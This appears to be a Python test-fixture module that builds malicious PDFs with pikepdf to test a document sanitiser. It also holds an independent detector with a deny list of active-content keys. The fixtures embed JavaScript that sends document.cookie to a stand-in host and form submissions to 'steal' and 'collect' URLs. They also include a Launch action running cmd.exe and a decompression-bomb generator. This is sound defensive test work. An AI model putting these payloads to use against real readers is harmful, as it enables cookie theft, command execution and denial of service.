"""PDFs that try to do something when opened, a decompression bomb, and an independent look for
active content (it walks every object with pikepdf; it does not reuse the sanitiser's code)."""

import io
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.meetings.helpers import make_pdf

JS = "app.alert('x'); this.submitForm('http://10.0.0.9/steal');"


def _edit(text="会议材料 预算调整方案", pages=1):
    return pikepdf.open(io.BytesIO(make_pdf(text, pages)))


def _save(pdf, **kw):
    out = io.BytesIO()
    pdf.save(out, **kw)
    return out.getvalue()


def _js(pdf, code=JS):
    return pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String(code)))


def open_action_js():
    """JavaScript run on opening: an OpenAction and the document-level JavaScript name tree."""
    pdf = _edit()
    pdf.Root.OpenAction = _js(pdf)
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), pdf.make_indirect(
        Dictionary(S=Name.JavaScript, JS=pdf.make_stream(JS.encode())))])))
    return _save(pdf)


def javascript_link():
    """A link annotation whose URI is javascript:, beside an ordinary link that must survive."""
    pdf = _edit()
    page = pdf.pages[0].obj
    bad = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 700, 300, 740], Border=[0, 0, 0],
                     A=Dictionary(S=Name.URI, URI=String("  JavaScript:fetch('http://10.0.0.9/'+document.cookie)")))
    good = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 650, 300, 690], Border=[0, 0, 0],
                      A=Dictionary(S=Name.URI, URI=String("https://www.npc.gov.cn/")))
    page.Annots = pdf.make_indirect(Array([pdf.make_indirect(bad), pdf.make_indirect(good)]))
    return _save(pdf)


def additional_actions():
    """/AA on the page (open, close), on an annotation and on a form field; a Launch and a
    SubmitForm button; a GoTo whose chain ends in JavaScript; JavaScript reached only from the outline."""
    pdf = _edit(pages=2)
    page = pdf.pages[0].obj
    page.AA = Dictionary(O=_js(pdf), C=_js(pdf))
    field = pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, Ff=65536, T=String("send"), Rect=[72, 600, 200, 630],
        P=page, A=Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://10.0.0.9/collect"))),
        AA=Dictionary(E=_js(pdf), K=_js(pdf))))
    launch = pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=[72, 550, 200, 580],
        A=Dictionary(S=Name.Launch, Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")))))
    chained = pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=[72, 500, 200, 530],
        A=Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit]), Next=_js(pdf))))
    page.Annots = Array([field, launch, chained])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    outline_item = pdf.make_indirect(Dictionary(Title=String("第一章"), A=_js(pdf)))
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=outline_item, Last=outline_item, Count=1))
    outline_item.Parent = outlines
    pdf.Root.Outlines = outlines
    return _save(pdf)


def attachments_media_xfa():
    """An embedded file (name tree and attachment annotation), rich media, and an XFA form."""
    pdf = _edit()
    payload = pdf.make_stream(b"MZ\x90\x00 an executable", Type=Name.EmbeddedFile)
    spec = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("readme.exe"), EF=Dictionary(F=payload)))
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("readme.exe"), spec])))
    page = pdf.pages[0].obj
    page.Annots = Array([
        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[72, 700, 90, 720], FS=spec)),
        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[72, 400, 300, 600],
                                     RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([String("a.swf"), spec]))))),
    ])
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(
        b"<xdp:xdp><script contentType='application/x-javascript'>app.alert(1)</script></xdp:xdp>"))
    pdf.Root.NeedsRendering = True
    return _save(pdf)


ACTIVE = (open_action_js, javascript_link, additional_actions, attachments_media_xfa)


def bomb(inflated_mb=110, as_image=False):
    """A one-page PDF whose content stream is ~300 KB of Flate that inflates to `inflated_mb` MB of
    text-drawing operators (what made pdftotext run for 15-30 s inside the upload request).
    `as_image` labels that stream an image, which it is not: the viewer still runs it as content."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    op = b"BT /F1 12 Tf 72 720 Td (A) Tj ET\n"
    content = pikepdf.Stream(pdf, zlib.compress(op * (inflated_mb * 1024 * 1024 // len(op)), 9))
    content.Filter = Name.FlateDecode
    if as_image:
        content.Subtype, content.Width, content.Height = Name.Image, 1, 1
        content.ColorSpace, content.BitsPerComponent = Name.DeviceGray, 8
    page = pdf.pages[0]
    page.Contents = pdf.make_indirect(content)
    page.Resources = Dictionary(Font=Dictionary(F1=Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)))
    return _save(pdf, compress_streams=False)


def encrypted(user="secret"):
    pdf = _edit()
    return _save(pdf, encryption=pikepdf.Encryption(user=user, owner="owner-" + user, R=6))


# ---- the independent check ----------------------------------------------------------------------

FORBIDDEN_NAMES = {"/JS", "/JavaScript", "/AA", "/Launch", "/SubmitForm", "/ImportData", "/EmbeddedFile",
                   "/EmbeddedFiles", "/EF", "/RichMedia", "/RichMediaContent", "/XFA", "/FileAttachment",
                   "/NeedsRendering", "/GoToR", "/GoToE", "/Rendition", "/Movie", "/Sound"}


def active_content(data):
    """Everything in the PDF that could act when opened, as readable findings ([] when none)."""
    findings = []
    with pikepdf.open(io.BytesIO(data)) as pdf:
        root_open = pdf.Root.get("/OpenAction")
        if root_open is not None and not isinstance(root_open, Array):
            findings.append(f"OpenAction {root_open.get('/S')}")
        stack = [pdf.trailer, *pdf.objects]
        seen = set()
        while stack:
            obj = stack.pop()
            if isinstance(obj, pikepdf.Object) and obj.is_indirect:
                if obj.objgen in seen:
                    continue
                seen.add(obj.objgen)
            if isinstance(obj, (Dictionary, pikepdf.Stream)):
                for key, value in obj.items():
                    if key in FORBIDDEN_NAMES:
                        findings.append(f"key {key}")
                    stack.append(value)
            elif isinstance(obj, Array):
                stack.extend(obj)
            elif isinstance(obj, Name) and str(obj) in FORBIDDEN_NAMES:
                findings.append(f"name {obj}")
            elif isinstance(obj, String) and "javascript" in str(obj).lower().replace(" ", ""):
                findings.append(f"string {str(obj)[:40]!r}")
    return findings


def uris(data):
    with pikepdf.open(io.BytesIO(data)) as pdf:
        return [str(a.A.URI) for page in pdf.pages for a in page.obj.get("/Annots", [])
                if "/A" in a and a.A.get("/S") == Name.URI]


def long_document(pages=40, text="长篇报告"):
    """A plain report of many pages, each with its number large enough to see in a screenshot."""
    return make_pdf(text, pages)


def heavy(total_mb=20, pages=10):
    """A PDF of about `total_mb` MB whose first page is only text: every later page carries a
    large incompressible image, so a reader that waits for the whole file waits for all of it."""
    import os

    pdf = _edit("第一页：只有文字", pages)
    per_page = int(total_mb * 1024 * 1024 / max(1, pages - 1))
    side = int(per_page ** 0.5)
    for page in list(pdf.pages)[1:]:
        image = pdf.make_stream(os.urandom(side * side), Type=Name.XObject, Subtype=Name.Image, Width=side, Height=side,
                                ColorSpace=Name.DeviceGray, BitsPerComponent=8)
        page.obj.Resources = Dictionary(XObject=Dictionary(Im0=image))
        page.obj.Contents = pdf.make_stream(b"q 400 0 0 400 100 300 cm /Im0 Do Q")
    return _save(pdf)
